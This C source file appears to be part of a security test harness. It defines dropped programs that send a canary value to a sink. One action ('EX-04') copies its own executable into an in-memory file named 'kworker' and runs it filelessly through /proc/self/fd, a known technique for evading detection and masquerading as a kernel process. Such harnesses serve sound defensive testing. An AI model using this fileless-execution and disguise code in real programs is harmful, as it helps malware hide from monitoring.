/* Programs that are dropped, and how they are started. */
#include "../native.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* What every dropped program does: it tells the row's canary to the sink. */
ACT(payload)
{
	int error = leak(target("canary"), strlen(target("canary")));

	printf("pwfix ran: %s\n", error ? strerror(-error) : "sent");
	return error ? 1 : 0;
}

/* The path of the targets: our second argument. */
static char *targets_path(void)
{
	static char line[8192];
	int fd = open("/proc/self/cmdline", O_RDONLY | O_CLOEXEC);
	ssize_t got = fd < 0 ? -1 : read(fd, line, sizeof line - 1);

	close(fd);
	if (got <= 0)
		return NULL;
	char *act = line + strlen(line) + 1;
	return act + strlen(act) + 1;
}

/* EX-04: itself, in memory, executed by the descriptor's name. */
ACT(memory_program)
{
	char path[64];
	struct stat st;
	int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), memory = (int)syscall(SYS_memfd_create, "kworker", 0);

	if (self < 0 || memory < 0 || fstat(self, &st) || sendfile(memory, self, NULL, (size_t)st.st_size) != st.st_size) {
		say("memory: %s", strerror(errno));
		return 1;
	}
	snprintf(path, sizeof path, "/proc/self/fd/%d", memory);
	int reader = open(path, O_RDONLY); /* what is open for writing is busy */
	close(memory);
	snprintf(path, sizeof path, "/proc/self/fd/%d", reader);
	char *const argv[] = {"kworker", "payload", targets_path(), NULL}, *const env[] = {NULL};
	if (fork() == 0) {
		syscall(SYS_execve, path, argv, env);
		say("execve: %s", strerror(errno));
		_exit(1);
	}
	wait(NULL);
	return 0;
}
